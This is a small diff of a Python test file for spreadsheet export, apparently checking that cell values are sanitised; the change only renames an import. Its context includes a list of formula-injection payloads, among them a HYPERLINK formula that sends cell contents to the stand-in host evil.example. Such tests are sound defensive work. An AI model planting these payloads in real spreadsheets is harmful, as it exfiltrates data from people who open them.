@@ -9,7 +9,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from lhl_portal.xlsx import cell, new_workbook, workbook_bytes
+from common.xlsx import cell, new_workbook, workbook_bytes
 
 CREATED = datetime.datetime(2021, 4, 30, 12, 0)
 DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\x00=1"]
